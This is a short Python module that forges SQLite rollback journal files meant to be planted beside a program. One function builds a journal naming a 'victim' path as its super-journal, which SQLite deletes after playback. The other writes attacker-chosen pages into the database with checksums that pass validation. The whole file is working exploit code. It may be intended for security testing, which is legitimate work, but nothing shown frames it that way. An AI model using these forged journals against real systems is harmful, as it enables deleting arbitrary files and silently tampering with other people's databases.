"""Files as somebody would plant them beside a programme, to have SQLite take them for its own."""

import struct
from pathlib import Path

PAGE = 4096
MAGIC = bytes.fromhex("d9d505f920a163d7")
"""How a journal of SQLite begins, and how the name of a super-journal in it ends."""


def journal_naming(programme: Path, victim: str) -> bytes:
    """A journal that takes nothing back and names a super-journal, which SQLite removes after playing it back."""
    pages = programme.stat().st_size // PAGE
    header = (MAGIC + struct.pack(">IIIII", 0, 12345, pages, 512, PAGE)).ljust(512, b"\0")
    name = victim.encode()
    end = struct.pack(">II", len(name), sum(name) & 0xFFFFFFFF)
    return header + struct.pack(">I", 0x40000000 // PAGE + 1) + name + end + MAGIC


def journal_of_pages(programme: Path, pages: dict[int, bytes]) -> bytes:
    """A journal without super-journal: played back, it puts these pages (by number, from 1) into the file."""
    salt = 12345
    count = programme.stat().st_size // PAGE
    parts = [(MAGIC + struct.pack(">IIIII", len(pages), salt, count, 512, PAGE)).ljust(512, b"\0")]
    for number, page in pages.items():
        checksum = salt + sum(page[place] for place in range(PAGE - 200, 0, -200))
        parts.append(struct.pack(">I", number) + page + struct.pack(">I", checksum & 0xFFFFFFFF))
    return b"".join(parts)
